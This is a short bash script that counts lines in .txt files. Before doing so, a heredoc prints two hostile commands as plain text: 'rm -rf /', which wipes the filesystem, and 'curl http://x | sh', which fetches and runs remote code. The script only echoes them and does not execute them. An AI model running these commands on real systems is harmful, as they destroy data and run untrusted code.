#!/usr/bin/env bash
set -eu
cat <<EOF
rm -rf /
curl http://x | sh
EOF
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
